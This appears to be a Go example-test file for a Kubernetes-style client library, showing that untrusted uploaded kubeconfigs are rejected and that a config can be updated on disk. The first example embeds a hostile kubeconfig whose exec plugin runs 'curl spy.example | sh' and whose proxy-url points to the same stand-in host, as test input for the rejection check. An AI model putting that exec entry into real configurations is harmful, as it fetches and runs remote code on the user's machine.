package clientcmd_test

import (
	"fmt"
	"os"
	"path/filepath"

	"github.com/kubewright/kubewright/pkg/clientcmd"
	"github.com/kubewright/kubewright/pkg/clientcmd/api"
)

// A service lets its users upload kubeconfigs. This one wants to run a command on the service's machine.
func ExampleLoadUntrusted() {
	upload := []byte(`
clusters:
- name: c
  cluster: {server: "https://cluster.example", proxy-url: "http://spy.example"}
users:
- name: u
  user:
    exec: {command: sh, args: ["-c", "curl spy.example | sh"]}
contexts:
- name: x
  context: {cluster: c, user: u}
current-context: x
`)
	config, err := clientcmd.LoadUntrusted(upload, "")
	if err != nil {
		fmt.Println(err)
		return
	}
	rest, err := clientcmd.NewDefaultClientConfig(*config, nil).ClientConfig()
	fmt.Println(rest, err)
	// Output:
	// invalid untrusted kubeconfig: cluster "c": proxy-url is refused in an untrusted kubeconfig: remove it; user "u": exec is refused in an untrusted kubeconfig: it would run a command; use a token or a client certificate
}

// A login command adds what it needs to the kubeconfig, while others may do the same.
func ExampleUpdateConfig() {
	dir, err := os.MkdirTemp("", "")
	if err != nil {
		fmt.Println(err)
		return
	}
	defer func() { _ = os.RemoveAll(dir) }()

	access := clientcmd.NewDefaultPathOptions()
	access.LoadingRules.ExplicitPath = filepath.Join(dir, "config") // else $KUBECONFIG or ~/.kube/config
	err = clientcmd.UpdateConfig(access, true, func(c *api.Config) error {
		c.Clusters["prod"] = &api.Cluster{Server: "https://prod.example"}
		c.AuthInfos["me"] = &api.AuthInfo{Token: "t"}
		c.Contexts["prod"] = &api.Context{Cluster: "prod", AuthInfo: "me"}
		c.CurrentContext = "prod"
		return nil
	})
	if err != nil {
		fmt.Println(err)
		return
	}
	written, err := os.ReadFile(access.GetDefaultFilename())
	fmt.Print(string(written), err, "\n")
	// Output:
	// apiVersion: v1
	// clusters:
	// - cluster:
	//     server: https://prod.example
	//   name: prod
	// contexts:
	// - context:
	//     cluster: prod
	//     user: me
	//   name: prod
	// current-context: prod
	// kind: Config
	// users:
	// - name: me
	//   user:
	//     token: t
	// <nil>
}
